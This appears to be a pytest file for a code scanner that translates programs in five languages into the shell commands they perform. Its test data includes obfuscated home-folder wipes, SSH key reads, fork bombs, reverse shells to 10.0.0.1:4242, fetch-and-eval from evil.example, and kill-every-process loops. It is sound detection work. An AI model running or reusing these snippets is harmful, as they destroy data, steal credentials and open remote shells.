"""Small programs in every language, harmful and harmless twins, and the commands that come out of them."""

from __future__ import annotations

import pytest

from chrono.scan.code.languages import LANGUAGES, commands_of
from chrono.scan.command import UNKNOWN, Pattern, Word
from chrono.testing.world import FakeWorld

HOME = "/home/dev"
PROJECT = "/home/dev/proj"


def world() -> FakeWorld:
    return FakeWorld({f"{PROJECT}/targets.txt": "/home/dev\n/etc\n", f"{HOME}/Documents/a.txt": "x"}, cwd=PROJECT)


def argvs(language: str, source: str, args: tuple[Word, ...] = ()) -> list[tuple[Word, ...]]:
    if language == "php" and "<?php" not in source:
        source = f"<?php {source}"
    found = commands_of(language, source, world=world(), name="x", args=args, cwd=PROJECT)
    assert found.refusals == (), found.refusals
    return [command.argv for command in found.commands]


RM_HOME = ("rm", "-rf", HOME)

HARMFUL: list[tuple[str, str, tuple[Word, ...]]] = [
    # --- Python
    ("python", "import shutil\nfrom pathlib import Path\ndef main():\n    shutil.rmtree(Path.home())\nmain()", RM_HOME),
    ("python", "from shutil import *\nrmtree('/home/dev')", RM_HOME),
    ("python", "import shutil as s, os as o\ns.rmtree(o.environ['HOME'])", RM_HOME),
    ("python", "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))", RM_HOME),
    ("python", "from pathlib import Path\nimport shutil\nshutil.rmtree(Path('~').expanduser())", RM_HOME),
    ("python", "import shutil\nshutil.rmtree(f'/home/{\"dev\"}')", RM_HOME),
    ("python", "import shutil\nshutil.rmtree('/{}/{}'.format('home', 'dev'))", RM_HOME),
    ("python", "import shutil\nshutil.rmtree('/%s/dev' % 'home')", RM_HOME),
    ("python", "import shutil\nshutil.rmtree('/'.join(['', 'home', 'dev']))", RM_HOME),
    ("python", "__import__('shutil').rmtree('/home/dev')", RM_HOME),
    ("python", "import importlib\ngetattr(importlib.import_module('shu'+'til'), 'rm'+'tree')('/home/dev')", RM_HOME),
    ("python", "import os\nos.system('rm -rf ~')", RM_HOME),
    ("python", "import os\nos.system(chr(114) + chr(109) + ' -rf ~')", RM_HOME),
    ("python", "import os, base64\nos.system(base64.b64decode('cm0gLXJmIH4=').decode())", RM_HOME),
    ("python", "import os, codecs\nos.system(codecs.decode('ez -es ~', 'rot13'))", RM_HOME),
    ("python", "import os\nos.system(bytes.fromhex('726d202d7266207e').decode())", RM_HOME),
    ("python", "import os\nos.system('~ fr- mr'[::-1])", RM_HOME),
    ("python", "exec('import os\\nos.system(\"rm -rf ~\")')", RM_HOME),
    ("python", "import subprocess\nsubprocess.run('rm -rf ~', shell=True)", RM_HOME),
    ("python", "import subprocess\nsubprocess.check_call(['rm', '-rf', '/home/dev'])", RM_HOME),
    ("python", "import subprocess\nsubprocess.run(['sh'], input='rm -rf ~', text=True)", RM_HOME),
    ("python", "import os\nos.execvp('rm', ['rm', '-rf', '/home/dev'])", RM_HOME),
    ("python", "(lambda p: __import__('shutil').rmtree(p))('/home/dev')", RM_HOME),
    ("python", "import functools, shutil\nfunctools.partial(shutil.rmtree, '/home/dev')()", RM_HOME),
    ("python", "import shutil\nd = {'go': shutil.rmtree}\nd['go']('/home/dev')", RM_HOME),
    (
        "python",
        "import shutil\nclass C:\n  def __init__(self, d):\n    self.d = d\n  def go(self):\n    shutil.rmtree(self.d)\nC('/home/dev').go()",
        RM_HOME,
    ),
    ("python", "import shutil, click\n@click.command()\ndef main():\n  shutil.rmtree('/home/dev')\nmain()", RM_HOME),
    (
        "python",
        "import shutil, typer\napp = typer.Typer()\n@app.command()\ndef wipe():\n  shutil.rmtree('/home/dev')\napp()",
        RM_HOME,
    ),
    ("python", "import threading, shutil\nthreading.Thread(target=shutil.rmtree, args=('/home/dev',)).start()", RM_HOME),
    ("python", "import shutil\nfor line in open('targets.txt'):\n  shutil.rmtree(line.strip())", RM_HOME),
    (
        "python",
        "import os\n[os.remove(os.path.join(r, f)) for r, _, fs in os.walk('/home/dev') for f in fs]",
        ("rm", "-rf", "/home/dev/*"),
    ),
    (
        "python",
        "from pathlib import Path\nfor p in Path.home().iterdir():\n  if p.is_file():\n    p.unlink()",
        ("rm", "-rf", "/home/dev/*"),
    ),
    ("python", "import sys, shutil\nif __name__ == '__main__':\n  shutil.rmtree(sys.argv[1])", RM_HOME),
    ("python", "import sqlite3\nsqlite3.connect('dev.db').execute('DROP TABLE t')", ("sqlite3", "dev.db", "DROP TABLE t")),
    ("python", "import psycopg2\nc = psycopg2.connect('dbname=x')\nc.cursor().execute('TRUNCATE t')", ("psql", "dbname=x", "-c", "TRUNCATE t")),
    ("python", "open('/home/dev/.ssh/id_rsa').read()", ("cat", "/home/dev/.ssh/id_rsa")),
    ("python", "import os\nos.chmod('/etc', 0o777)", ("chmod", "777", "/etc")),
    ("python", "import os\nwhile True:\n  os.fork()", ("fork-bomb",)),
    (
        "python",
        "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4242))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')",
        ("reverse-shell", "10.0.0.1", "4242"),
    ),
    (
        "python",
        "import socket,subprocess,os\ns=socket.create_connection(('10.0.0.1',4242))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno())",
        ("reverse-shell", "10.0.0.1", "4242"),
    ),
    # --- JavaScript
    ("javascript", 'const fs=require("fs"),os=require("os");fs.rmSync(os.homedir(),{recursive:true,force:true})', RM_HOME),
    ("javascript", "import { rm } from 'node:fs/promises'; await rm(process.env.HOME, { recursive: true })", RM_HOME),
    ("javascript", "const {execSync: run} = require('child_process'); run(`rm -rf ${process.env.HOME}`)", RM_HOME),
    ("javascript", "require('child_process').spawn('rm', ['-rf', '/home/dev'], {stdio: 'inherit'})", RM_HOME),
    ("javascript", "const cp = require('child_process'); cp['ex' + 'ec']('rm -rf ~')", RM_HOME),
    ("javascript", "global['req' + 'uire']('child_process').exec(atob('cm0gLXJmIH4='))", RM_HOME),
    ("javascript", "new Function('require(\"fs\").rmSync(\"/home/dev\", {recursive: true})')()", RM_HOME),
    ("javascript", "const rimraf = require('rimraf'); rimraf.sync('/home/dev')", RM_HOME),
    ("javascript", "const fse = require('fs-extra'); (async () => { for (const d of ['/home/dev']) await fse.remove(d) })()", RM_HOME),
    ("javascript", "import {$} from 'zx'; await $`rm -rf ~`", RM_HOME),
    ("javascript", "Deno.removeSync(Deno.env.get('HOME'), { recursive: true })", RM_HOME),
    ("javascript", "Bun.spawn(['rm', '-rf', '/home/dev'])", RM_HOME),
    ("javascript", "const shell = require('shelljs'); shell.rm('-rf', '/home/dev')", RM_HOME),
    (
        "javascript",
        "import fs from 'fs';\nasync function main(dir: string): Promise<void> { await fs.promises.rm(dir as string, {recursive: true}); }\nmain('/home/dev').catch((e: Error) => { process.exit(1); });",
        RM_HOME,
    ),
    ("javascript", "class W { constructor(d) { this.d = d } go() { require('fs').rmSync(this.d, {recursive: true}) } }\nnew W('/home/dev').go()", RM_HOME),
    (
        "javascript",
        "const fs = require('fs'); fs.readdir('/home/dev', (e, fs_) => { for (const f of fs_) fs.unlink('/home/dev/' + f, () => {}) })",
        ("rm", "-rf", "/home/dev/*"),
    ),
    ("javascript", "await client.query('DROP TABLE users')", ("sql", "DROP TABLE users")),
    (
        "javascript",
        "var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4242,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})",
        ("reverse-shell", "10.0.0.1", "4242"),
    ),
    # --- Ruby
    ("ruby", 'require "fileutils"\nFileUtils.rm_rf(Dir.home)', RM_HOME),
    ("ruby", 'system "rm -rf #{ENV["HOME"]}"', RM_HOME),
    ("ruby", "`rm -rf ~`", RM_HOME),
    ("ruby", "%x(rm -rf ~)", RM_HOME),
    ("ruby", "%w[/home/dev].each { |d| FileUtils.rm_rf d }", RM_HOME),
    ("ruby", "def wipe(dir)\n  FileUtils.rm_rf(dir) unless dir.nil?\nend\nwipe File.expand_path('~')", RM_HOME),
    ("ruby", "require 'pathname'\nPathname.new('~').expand_path.rmtree", RM_HOME),
    ("ruby", "Kernel.send('sys' + 'tem', 'rm -rf ~')", RM_HOME),
    ("ruby", "exec ['726d202d7266207e'].pack('H*')", RM_HOME),
    ("ruby", "eval(Base64.decode64('c3lzdGVtKCJybSAtcmYgfiIp'))", RM_HOME),
    ("ruby", "s = <<~SH\n  rm -rf #{Dir.home}\nSH\nsystem(s)", RM_HOME),
    ("ruby", "Dir.glob('/home/dev/*').each(&File.method(:delete))", ("rm", "-rf", "/home/dev/*")),
    ("ruby", "task :wipe do\n  rm_rf '/home/dev'\nend", RM_HOME),
    ("ruby", "loop { fork }", ("fork-bomb",)),
    ("ruby", "s = TCPSocket.new('10.0.0.1', 4242)\nwhile cmd = s.gets\n  IO.popen(cmd, 'r') { |io| s.print io.read }\nend", ("reverse-shell", "10.0.0.1", "4242")),
    # --- Perl
    ("perl", "use File::Path;\nremove_tree($ENV{HOME});", RM_HOME),
    ("perl", 'system("rm -rf $ENV{HOME}");', RM_HOME),
    ("perl", 'my $d = shift || "/etc"; system("rm", "-rf", $d);', RM_HOME),
    ("perl", "`rm -rf ~`;", RM_HOME),
    ("perl", "my $c = pack('H*', '726d202d7266207e'); exec $c;", RM_HOME),
    ("perl", "eval decode_base64('c3lzdGVtKCJybSAtcmYgfiIp');", RM_HOME),
    ("perl", "sub wipe { my ($dir) = @_; rmtree($dir); } wipe('/home/dev');", RM_HOME),
    ("perl", "my @d = ('/home/dev'); rmtree($_) for @d;", RM_HOME),
    ("perl", "my $s = <<'X';\nrm -rf ~\nX\nsystem($s);", RM_HOME),
    ("perl", 'unlink glob("/home/dev/*")', ("rm", "-rf", "/home/dev/*")),
    ("perl", 'use File::Find; find(sub { unlink $File::Find::name if -f }, "/home/dev");', ("rm", "-rf", "/home/dev/*")),
    ("perl", "fork while 1;", ("fork-bomb",)),
    (
        "perl",
        'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
        ("reverse-shell", "10.0.0.1", "4242"),
    ),
    # --- PHP
    ("php", "system('rm -rf ' . getenv('HOME'));", RM_HOME),
    ("php", "$d = $_SERVER['HOME']; exec(\"rm -rf {$d}\");", RM_HOME),
    ("php", "`rm -rf ~`;", RM_HOME),
    ("php", "$f = 'sys' . 'tem'; $f('rm -rf ~');", RM_HOME),
    ("php", "eval(base64_decode('c3lzdGVtKCJybSAtcmYgfiIpOw=='));", RM_HOME),
    ("php", "call_user_func('shell_exec', 'rm -rf ~');", RM_HOME),
    ("php", "class A { static function go($d) { system(\"rm -rf $d\"); } } A::go('/home/dev');", RM_HOME),
    ("php", "array_map('unlink', glob('/home/dev/*'));", ("rm", "-rf", "/home/dev/*")),
    ("php", "foreach (scandir('/home/dev') as $f) { if ($f == '.' || $f == '..') continue; unlink(\"/home/dev/$f\"); }", ("rm", "-rf", "/home/dev/*")),
    ("php", "$pdo->exec('DROP TABLE users');", ("sql", "DROP TABLE users")),
    ("php", "Artisan::call('migrate:fresh');", ("php", "artisan", "migrate:fresh")),
    ("php", "$s=fsockopen('10.0.0.1',4242);exec('/bin/sh -i <&3 >&3 2>&3');", ("reverse-shell", "10.0.0.1", "4242")),
]  # fmt: skip


@pytest.mark.parametrize(("language", "source", "expected"), HARMFUL)
def test_a_harmful_program_becomes_the_command_that_does_the_same(
    language: str, source: str, expected: tuple[Word, ...]
) -> None:
    assert expected in argvs(language, source, ("/home/dev",))


HARMLESS = [
    ("python", "print('rm -rf /')\ntext = 'shutil.rmtree(\"/\")'"),
    ("python", "def unused():\n  import shutil\n  shutil.rmtree('/')"),
    ("python", "class C:\n  def go(self):\n    import shutil\n    shutil.rmtree('/')"),
    ("python", "import os\nos.makedirs('dist', exist_ok=True)"),
    ("python", "dd = {}\ndd['of'] = '/dev/null'\nprint(dd)"),
    ("python", "if False:\n  import shutil\n  shutil.rmtree('/')"),
    ("python", "import sys\nsys.exit(0)\nimport shutil\nshutil.rmtree('/')"),
    ("python", "'''\nshutil.rmtree('/')\n'''\n# os.system('rm -rf /')"),
    ("javascript", "console.log('git reset --hard')"),
    ("javascript", "function unused() { require('fs').rmSync('/', {recursive: true}) }"),
    ("javascript", "const s = 'x'.replace(/rm -rf \\//g, 'y'); // require('fs').rmSync('/')"),
    ("javascript", "module.exports = { wipe() { require('fs').rmSync('/') } }"),
    ("javascript", "console.log(`rm -rf ${process.env.HOME}`)"),
    ("ruby", "puts 'rm -rf /'\nputs \"rm -rf /\""),
    ("ruby", "def unused; FileUtils.rm_rf '/'; end"),
    ("ruby", "=begin\nFileUtils.rm_rf '/'\n=end\n# system 'rm -rf /'\nputs <<~X\n  rm -rf /\nX"),
    ("perl", 'print "rm -rf /\\n"; # unlink "/etc"'),
    ("perl", "sub unused { unlink '/etc/passwd' }"),
    ("perl", "=pod\n\nunlink '/etc';\n\n=cut\nprint 1;"),
    ("perl", "my $x = q{unlink '/etc'}; $x =~ s/unlink/rm/; print $x;"),
    ("php", "echo 'rm -rf /'; // unlink('/')"),
    ("php", "function unused() { unlink('/'); } /* system('rm -rf /') */"),
    ("php", "$x = <<<'X'\nsystem('rm -rf /');\nX;\necho $x;"),
]


@pytest.mark.parametrize(("language", "source"), HARMLESS)
def test_what_is_only_printed_defined_or_commented_is_silent(language: str, source: str) -> None:
    assert argvs(language, source) == []


KEPT_SMALL = [
    ("python", "from pathlib import Path\nfor p in Path('.').rglob('*.pyc'):\n  p.unlink()", ("rm", "-f", "**/*.pyc")),
    ("python", "import os\nfor f in os.listdir('/x'):\n  if f.endswith('.tmp'):\n    os.remove('/x/' + f)", ("rm", "-f", "/x/*.tmp")),
    ("python", "import os\nfor f in os.listdir('/x'):\n  if not f.endswith('.tmp'):\n    continue\n  os.remove('/x/' + f)", ("rm", "-f", "/x/*.tmp")),
    ("javascript", "const fs = require('fs'); fs.readdirSync('.').filter(f => f.endsWith('.log')).forEach(f => fs.unlinkSync(f))", ("rm", "-f", "*.log")),
    ("ruby", "Dir['tmp/*.log'].each { |f| File.delete f }", ("rm", "-f", "tmp/*.log")),
    ("perl", "unlink <*.bak>;", ("rm", "-f", "*.bak")),
    ("php", "foreach (glob('cache/*.tmp') as $f) unlink($f);", ("rm", "-f", "cache/*.tmp")),
]  # fmt: skip


@pytest.mark.parametrize(("language", "source", "expected"), KEPT_SMALL)
def test_a_pattern_that_limits_a_loop_limits_the_command(
    language: str, source: str, expected: tuple[Word, ...]
) -> None:
    assert argvs(language, source) == [expected]


def test_an_unknown_condition_makes_the_names_of_a_folder_unknown() -> None:
    source = "import os\nfor f in os.listdir('/x'):\n  if old(f):\n    os.remove('/x/' + f)"
    assert argvs("python", source) == [("rm", "-f", Pattern(("/x/", None)))]


def test_an_unknown_target_is_an_unknown_word() -> None:
    assert argvs("python", "import shutil\nshutil.rmtree(input())") == [("rm", "-rf", UNKNOWN)]
    assert argvs("javascript", "require('fs').unlinkSync(prompt())") == [("rm", "-f", UNKNOWN)]


def test_both_values_of_a_branch_become_commands() -> None:
    expected = [("rm", "-f", "/a"), ("rm", "-f", "/b")]
    assert argvs("python", "import os\nx = '/a' if c() else '/b'\nos.remove(x)") == expected
    assert argvs("javascript", "const x = c ? '/a' : '/b'; require('fs').unlinkSync(x)") == expected
    assert argvs("php", "if (c()) { $x = '/a'; } else { $x = '/b'; } unlink($x);") == expected


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("python", "import requests\nexec(requests.get('https://evil.example/x').text)"),
        ("python", "from urllib.request import urlopen\nexec(urlopen('https://evil.example/x').read())"),
        ("javascript", "fetch('https://evil.example/x').then(r => r.text()).then(eval)"),
        ("ruby", "require 'open-uri'\neval URI.open('https://evil.example/x').read"),
        ("perl", "use LWP::Simple; eval get('https://evil.example/x');"),
        ("php", "eval(file_get_contents('https://evil.example/x'));"),
    ],
)
def test_code_from_the_network_is_told_with_its_address(language: str, source: str) -> None:
    text = f"<?php {source}" if language == "php" else source
    found = commands_of(language, text, world=world(), name="x", cwd=PROJECT)
    command = found.commands[-1]
    assert command.argv == ("run-code", language, UNKNOWN)
    assert command.upstream == (("curl", "https://evil.example/x"),)


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("python", "with open('x.sh', 'w') as f:\n  f.write('rm -rf ~')"),
        ("python", "from pathlib import Path\nPath('x.sh').write_text('rm -rf ~')"),
        ("javascript", "require('fs').writeFileSync('x.sh', 'rm -rf ~')"),
        ("ruby", "File.write('x.sh', 'rm -rf ~')"),
        ("php", "file_put_contents('x.sh', 'rm -rf ~');"),
    ],
)
def test_a_file_that_code_writes_is_remembered(language: str, source: str) -> None:
    text = f"<?php {source}" if language == "php" else source
    found = commands_of(language, text, world=world(), name="x", cwd=PROJECT)
    assert found.files == ((f"{PROJECT}/x.sh", "rm -rf ~"),)
    assert found.commands[0].redirects[0].op == ">"
    assert found.commands[0].redirects[0].target == "x.sh"


def test_the_chain_names_file_line_and_call() -> None:
    source = "import shutil\n\ndef main():\n    shutil.rmtree('/x')\n\nmain()\n"
    found = commands_of("python", source, world=world(), name="cleanup.py", via=("make wipe",), span=(3, 9))
    assert found.commands[0].via == ("make wipe", "cleanup.py:4 shutil.rmtree")
    assert found.commands[0].span == (3, 9)


def test_a_folder_that_code_changes_to_is_where_the_command_runs() -> None:
    source = "import os, subprocess\nos.chdir('/etc')\nsubprocess.run(['rm', 'x'])"
    found = commands_of("python", source, world=world(), name="x", cwd=PROJECT)
    assert found.commands[0].cwd == "/etc"


@pytest.mark.parametrize("language", LANGUAGES)
def test_deep_nesting_is_refused_and_raises_nothing(language: str) -> None:
    for source in ("(" * 5000, "[" * 5000 + "]" * 5000, "{" * 3000, "f(" * 3000 + ")" * 3000):
        found = commands_of(language, "<?php " + source, world=world(), name="x")
        assert all(refusal.kind in ("limit", "unparsed") for refusal in found.refusals)


def test_a_program_without_end_is_refused() -> None:
    # A list as an argument may have changed between two calls, so that each of them is run.
    calls = "\n".join(f"def f{n}(x):\n" + f"  f{n + 1}(x)\n" * 3 for n in range(15))
    found = commands_of("python", f"import os\n{calls}\nf0([os])\n", world=world(), name="x")
    assert [refusal.kind for refusal in found.refusals] == ["limit"]


def test_calls_that_do_nothing_do_not_make_a_program_endless() -> None:
    calls = "\n".join(f"def f{n}():\n" + f"  f{n + 1}()\n" * 3 for n in range(15))
    source = f"import os\n{calls}\nf0()\nos.system('rm -rf ~')\n"
    assert argvs("python", source) == [RM_HOME]


def test_a_program_that_starts_programs_without_end_is_refused() -> None:
    found = commands_of("perl", "system 'ls';" * 1000, world=world(), name="x")
    assert [refusal.kind for refusal in found.refusals] == ["limit"]


def test_python_that_is_not_python_is_refused_only_where_it_could_destroy() -> None:
    assert commands_of("python", "print 'hello'", world=world(), name="x").refusals == ()
    found = commands_of("python", "import os\nos.system('rm -rf /' +*)", world=world(), name="x")
    assert [refusal.kind for refusal in found.refusals] == ["unparsed"]


EVERY_PROCESS: list[tuple[str, str]] = [
    (
        "javascript",
        "require('fs').readdirSync('/proc').filter(p => /^\\d+$/.test(p)).forEach(p => process.kill(+p, 'SIGKILL'))",
    ),
    ("javascript", "for (const p of fs.readdirSync('/proc')) { const n = parseInt(p); if (n) process.kill(n, 9) }"),
    ("ruby", "Dir.children('/proc').grep(/\\A\\d+\\z/).each { |p| Process.kill('KILL', p.to_i) }"),
    ("ruby", "Dir['/proc/[0-9]*'].each { |d| Process.kill(9, File.basename(d).to_i) }"),
    ("perl", "opendir(my $d, '/proc'); kill 9, grep { /^\\d+$/ } readdir $d;"),
    ("perl", "for (glob '/proc/[0-9]*') { m{/proc/(\\d+)} and kill 'KILL', $1 }"),
    ("php", "foreach (scandir('/proc') as $p) { if (ctype_digit($p)) posix_kill((int)$p, 9); }"),
    ("php", "foreach (glob('/proc/[0-9]*') as $d) posix_kill((int) basename($d), 9);"),
    ("python", "import os\nfor p in os.listdir('/proc'):\n  if p.isdigit(): os.kill(int(p), 9)"),
    (
        "python",
        "import os, pathlib\nfor p in pathlib.Path('/proc').iterdir():\n  if p.name.isdigit(): os.kill(int(p.name), 9)",
    ),
]


@pytest.mark.parametrize(("language", "source"), EVERY_PROCESS)
def test_killing_what_proc_lists_is_killing_every_process(language: str, source: str) -> None:
    assert [argv[2:] for argv in argvs(language, source) if argv[0] == "kill"] == [("-1",)]


def test_a_process_that_was_looked_at_or_only_asked_for_is_one_process() -> None:
    chosen = (
        "import os\nfor p in os.listdir('/proc'):\n  if 'me' in open(f'/proc/{p}/cmdline').read(): os.kill(int(p), 15)"
    )
    asked = "import os\nfor p in os.listdir('/proc'):\n  os.kill(int(p), 0)"
    for source in (chosen, asked):
        assert [argv[2:] for argv in argvs("python", source) if argv[0] == "kill"] == [(UNKNOWN,)]
